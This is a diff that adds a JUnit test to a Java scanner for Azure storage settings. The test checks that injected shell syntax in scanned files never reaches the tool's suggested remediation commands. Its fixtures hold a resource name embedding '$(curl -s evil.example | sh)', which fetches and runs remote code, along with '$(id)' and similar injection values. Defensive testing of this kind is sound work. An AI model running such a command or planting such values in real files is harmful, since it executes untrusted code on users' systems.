@@ -43,4 +43,39 @@ class TerminalOutputTest {
         assertInert(fix.out());
         assertInert(fix.err());
     }
+
+    @Test
+    void valuesFromTheScannedFilesNeverReachASuggestedCommandWithShellSyntax(@TempDir Path dir) throws IOException {
+        Files.writeString(dir.resolve("main.bicep"), """
+                resource st 'Microsoft.Storage/storageAccounts@2023-05-01' = {
+                  name: 'st$(curl -s evil.example | sh)'
+                  location: 'westeurope'
+                  kind: 'StorageV2'
+                  sku: { name: 'Standard_LRS' }
+                  properties: {
+                    allowSharedKeyAccess: true
+                  }
+                }
+                """);
+        Files.writeString(dir.resolve("app.properties"), "azure.storage.connection-string=DefaultEndpointsProtocol=https;"
+                + "AccountName=x$(id);AccountKey=" + key() + ";EndpointSuffix=core.windows.net\n");
+        Files.writeString(dir.resolve("Main.java"), "class Main { void m() { new com.azure.storage.blob."
+                + "BlobServiceClientBuilder().endpoint(\"https://x`id`.blob.core.windows.net\").credential(new com.azure."
+                + "storage.common.StorageSharedKeyCredential(\"x;id\", System.getenv(\"K\"))).buildClient(); } }\n");
+        Path report = dir.resolveSibling(dir.getFileName() + ".json");
+        CliRun scan = run("scan", dir.toString(), "--format", "json", "--output", report.toString(), "--fail-on", "none");
+        assertThat(scan.exitCode()).as(scan.toString()).isZero();
+        var findings = new com.fasterxml.jackson.databind.ObjectMapper().readTree(report.toFile()).get("findings");
+        assertThat(findings.size()).isGreaterThanOrEqualTo(3);
+        for (var f : findings) {
+            var r = f.get("remediation");
+            java.util.List<String> advice = new java.util.ArrayList<>();
+            r.get("commands").forEach(c -> advice.add(c.asText()));
+            advice.add(r.get("replacement").asText());
+            for (String a : advice) {
+                assertThat(a).as(f.get("ruleId").asText()).doesNotContain("$(").doesNotContain("`id`")
+                        .doesNotContain("x;id").doesNotContain("| sh");
+            }
+        }
+    }
 }
